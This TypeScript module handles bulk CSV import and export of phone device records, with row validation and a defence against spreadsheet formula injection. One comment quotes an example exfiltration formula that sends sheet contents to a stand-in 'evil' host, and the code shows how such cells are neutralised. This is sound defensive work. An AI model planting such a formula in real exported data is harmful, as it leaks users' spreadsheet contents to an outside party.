/**
 * Bulk device import and export as CSV (header
 * `mac,vendor,model,label,ownerExtension,hotdeskEnabled,location`). An import is all rows or
 * none: every bad row is reported with its line number and reason, and nothing is written.
 * Cells a spreadsheet would run as formulas are exported behind a `'` (see defuseCell).
 */
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import type { Stores } from '../../db/stores/index.js';
import { AppError, invalid } from '../errors.js';
import { deviceCreateSchema } from '../schemas.js';
import { problemsOf } from '../http/validation.js';
import type { Actor } from './audit.js';
import type { DeviceInput, DeviceService } from './devices.js';
import { setImmediate as nextTurn } from 'node:timers/promises';

export const CSV_COLUMNS = ['mac', 'vendor', 'model', 'label', 'ownerExtension', 'hotdeskEnabled', 'location'] as const;
const MAX_ROWS = 50_000;

export interface RowProblem {
  line: number;
  mac: string | null;
  errors: string[];
}

export interface ImportResult {
  created: number;
  updated: number;
  dryRun: boolean;
}

/**
 * A spreadsheet runs a cell starting with = + - @ (or TAB or CR, which some strip first) as a
 * formula: a label `=HYPERLINK("http://evil/?"&A1,"x")` would send the sheet's contents away
 * when clicked. Export puts a single quote in front of such a cell, which spreadsheets show as
 * text (OWASP's advice for CSV injection); import takes exactly one quote off again. A value
 * that already starts with quotes before such a character gets one more on export, so every
 * value comes back from export → import as it was.
 */
const FORMULA_START = /^'*[=+\-@\t\r]/;

/** The cell as exported: defused if a spreadsheet would read it as a formula. */
export function defuseCell(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** The cell as imported: one leading quote removed where export would have added it. */
export function restoreCell(value: string): string {
  return value.startsWith("'") && FORMULA_START.test(value) ? value.slice(1) : value;
}

const BOOL: Record<string, boolean> = { '': false, '0': false, false: false, no: false, '1': true, true: true, yes: true };

/** Devices per piece of the CSV export. */
const EXPORT_CHUNK = 2000;

export class DeviceCsv {
  constructor(
    private readonly s: Stores,
    private readonly devices: DeviceService,
  ) {}

  /** Parse and validate; throws 400 with `details.rows` listing every bad row. */
  import(csv: string, actor: Actor, opts: { dryRun?: boolean; update?: boolean } = {}): ImportResult {
    let records: string[][];
    try {
      records = parse(csv, { bom: true, skip_empty_lines: true, trim: true, relax_column_count: false, max_record_size: 4096 });
    } catch (err) {
      throw invalid(`CSV could not be parsed: ${(err as Error).message}`);
    }
    const header = records.shift();
    if (!header || CSV_COLUMNS.some((c, i) => header[i] !== c) || header.length !== CSV_COLUMNS.length) {
      throw invalid(`CSV header must be exactly: ${CSV_COLUMNS.join(',')}`);
    }
    if (records.length > MAX_ROWS) throw new AppError(413, 'too_large', `at most ${MAX_ROWS} rows per import`);

    return this.s.tx(() => {
      const problems: RowProblem[] = [];
      const seen = new Map<string, number>();
      const rows: Array<{ line: number; input: DeviceInput }> = [];
      records.forEach((rec, i) => {
        const line = i + 2;
        const [mac, vendor, model, label, owner, hotdesk, location] = rec.map(restoreCell) as [string, string, string, string, string, string, string];
        const errors: string[] = [];
        const hot = BOOL[hotdesk.toLowerCase()];
        if (hot === undefined) errors.push('hotdeskEnabled: expected true/false, yes/no or 1/0');
        let locationId: number | null = null;
        if (location !== '') {
          const loc = /^\d+$/.test(location) ? this.s.locations.get(Number(location)) : this.s.locations.getByName(location);
          if (!loc) errors.push(`location: no location "${location}"`);
          else locationId = loc.id;
        }
        const parsed = deviceCreateSchema.safeParse({
          mac,
          vendor,
          model: model || null,
          label: label || null,
          ownerExtension: owner || null,
          hotdeskEnabled: hot ?? false,
          locationId,
        });
        if (!parsed.success) errors.push(...problemsOf(parsed.error).map((p) => `${p.field}: ${p.message}`));
        if (parsed.success) {
          const dup = seen.get(parsed.data.mac);
          if (dup) errors.push(`mac: duplicate of line ${dup}`);
          seen.set(parsed.data.mac, line);
          if (!opts.update && this.s.devices.get(parsed.data.mac)) errors.push('mac: device already exists');
          try {
            this.devices.check(parsed.data);
          } catch (err) {
            errors.push(err instanceof AppError ? err.message : String(err));
          }
        }
        if (errors.length > 0) problems.push({ line, mac: parsed.success ? parsed.data.mac : mac || null, errors });
        else if (parsed.success) rows.push({ line, input: parsed.data });
      });
      if (problems.length > 0) {
        throw invalid(`${problems.length} of ${records.length} row(s) are invalid; nothing was imported`, { rows: problems });
      }
      let created = 0;
      let updated = 0;
      if (!opts.dryRun) {
        for (const { input } of rows) {
          if (this.s.devices.get(input.mac)) {
            this.devices.update(input.mac, input, actor);
            updated++;
          } else {
            this.devices.create(input, actor);
            created++;
          }
        }
      } else {
        for (const { input } of rows) (this.s.devices.get(input.mac) ? updated++ : created++);
      }
      return { created, updated, dryRun: opts.dryRun === true };
    });
  }

  /**
   * The CSV, a piece at a time: the header, then EXPORT_CHUNK devices per piece, in MAC order,
   * letting the event loop run between pieces. At 100,000 devices one piece for the whole fleet
   * held every device (with its last fetch) in memory at once and kept phones waiting for seconds.
   */
  async *export(): AsyncGenerator<string> {
    const names = new Map(this.s.locations.list().map((l) => [l.id, l.name]));
    yield stringify([CSV_COLUMNS as unknown as string[]]);
    for (const chunk of this.s.devices.eachWrite(EXPORT_CHUNK)) {
      yield stringify(
        chunk.map((d) =>
          [
            d.mac,
            d.vendor,
            d.model ?? '',
            d.label ?? '',
            d.ownerExtension ?? '',
            d.hotdeskEnabled ? 'true' : 'false',
            d.locationId !== null ? (names.get(d.locationId) ?? String(d.locationId)) : '',
          ].map(defuseCell),
        ),
      );
      await nextTurn();
    }
  }
}
